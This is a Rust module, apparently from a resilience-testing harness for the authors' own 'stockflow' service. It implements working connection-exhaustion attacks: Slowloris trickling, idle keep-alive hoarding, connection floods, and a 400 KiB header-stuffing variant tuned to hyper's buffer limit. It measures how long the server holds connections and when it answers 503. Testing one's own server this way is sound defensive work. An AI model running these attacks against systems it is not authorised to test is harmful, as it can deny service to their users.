//! Attacks that hold connections rather than send requests: each worker keeps one
//! connection open for as long as the server lets it, notes how long that was and what (if
//! anything) the server said, and opens the next one, until the stretch ends.

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;

use super::{Tally, Target, gather};
use crate::abuse::raw::{Answer, connect_from, read_answer};

/// How a connection is held.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hold {
    /// Slowloris: a request line, then one header byte a second, never finished.
    Slowloris,
    /// Idle keep-alive hoarding: one whole request (`GET /healthz`), answered, then nothing.
    Idle,
    /// A flood: connections opened and held without a byte; past the cap they are refused.
    Flood,
    /// Header stuffing: a request line and 400 KiB of one header (just under the most the
    /// server buffers for a head), then one byte a second, never finished: the memory a
    /// connection can make the server hold.
    Stuffed,
}

/// Bytes of the stuffed header's value.
const STUFFING: usize = 400 * 1024;

/// After a refusal a worker waits this long before it connects again: a flood reconnects at
/// once, but a busy loop would only measure this machine's two cores.
const AFTER_REFUSAL: Duration = Duration::from_millis(100);

/// Holds `connections` connections to `target` from `source` as `how` says until `until`;
/// a connection the server keeps longer than `limit` seconds is counted past the limit.
pub async fn hold(
    target: &Target,
    source: Ipv4Addr,
    connections: usize,
    how: Hold,
    limit: f64,
    until: Instant,
) -> Tally {
    let workers = (0..connections)
        .map(|_| tokio::spawn(worker(target.clone(), source, how, limit, until)))
        .collect();
    gather(workers).await
}

async fn worker(target: Target, source: Ipv4Addr, how: Hold, limit: f64, until: Instant) -> Tally {
    let mut tally = Tally::default();
    let opening = opening(&target, how);
    while Instant::now() < until {
        let mut stream = match connect_from(source, target.addr).await {
            Ok(stream) => stream,
            Err(error) => {
                tally.answer(format!("connect failed: {}", error.kind()));
                tokio::time::sleep(AFTER_REFUSAL).await;
                continue;
            }
        };
        tally.connections += 1;
        let (mut reader, mut writer) = stream.split();
        let mut since = Instant::now();
        if writer.write_all(&opening).await.is_err() {
            tally.answer("closed while the request was sent".to_owned());
            continue;
        }
        if how == Hold::Idle {
            let first = tokio::select! {
                answer = read_answer(&mut reader) => answer,
                () = tokio::time::sleep_until(until.into()) => {
                    tally.open_at_end += 1;
                    break;
                }
            };
            tally.requests += 1;
            tally.answer(format!("the request: {}", first.label()));
            // The idle time starts with the answer.
            since = Instant::now();
        }
        let trickles = matches!(how, Hold::Slowloris | Hold::Stuffed);
        let mut tick = tokio::time::interval_at(
            (Instant::now() + Duration::from_secs(1)).into(),
            Duration::from_secs(1),
        );
        let read = read_answer(&mut reader);
        let mut read = std::pin::pin!(read);
        let answer = loop {
            tokio::select! {
                biased;
                answer = &mut read => break Some(answer),
                () = tokio::time::sleep_until(until.into()) => break None,
                _ = tick.tick(), if trickles => {
                    // A write after the server closed fails; the read then says how it ended.
                    let _ = writer.write_all(b"a").await;
                }
            }
        };
        let held = since.elapsed().as_secs_f64();
        if held > limit {
            tally.past_limit += 1;
        }
        match answer {
            // The stretch is over; the connection is reset as it is dropped.
            None => {
                tally.open_at_end += 1;
                break;
            }
            Some(answer) => {
                let refused = matches!(answer, Answer::Status(503, _));
                tally.answer(answer.label());
                if refused {
                    tokio::time::sleep(AFTER_REFUSAL).await;
                } else {
                    tally.held.push(held);
                }
            }
        }
    }
    tally
}

/// What a connection sends as soon as it is open.
fn opening(target: &Target, how: Hold) -> Vec<u8> {
    let line = format!("GET {} HTTP/1.1\r\nhost: stockflow\r\n", target.read_path);
    match how {
        Hold::Slowloris => format!("{line}x-slow: ").into_bytes(),
        Hold::Idle => b"GET /healthz HTTP/1.1\r\nhost: stockflow\r\n\r\n".to_vec(),
        Hold::Flood => Vec::new(),
        Hold::Stuffed => {
            let mut bytes = format!("{line}x-stuffing: ").into_bytes();
            bytes.resize(bytes.len() + STUFFING, b'a');
            bytes
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn held_connections_never_finish_their_head_but_the_idle_one() {
        let target = Target {
            service: "query-service",
            addr: "127.0.0.1:1".parse().expect("an address"),
            read_path: "/v1/products/BENCH-0".into(),
            write_path: "/v1/orders".into(),
        };
        let ends_head = |bytes: &[u8]| bytes.windows(4).any(|w| w == b"\r\n\r\n");
        assert!(opening(&target, Hold::Idle).ends_with(b"\r\n\r\n"));
        assert!(!ends_head(&opening(&target, Hold::Slowloris)));
        assert!(opening(&target, Hold::Flood).is_empty());
        let stuffed = opening(&target, Hold::Stuffed);
        assert!(!ends_head(&stuffed));
        // Under hyper's default read buffer limit (8 KiB + 400 KiB): the head is still
        // being read when the header time runs out, not refused as too large.
        assert!(stuffed.len() > STUFFING && stuffed.len() < 8192 + 4096 * 100);
    }
}
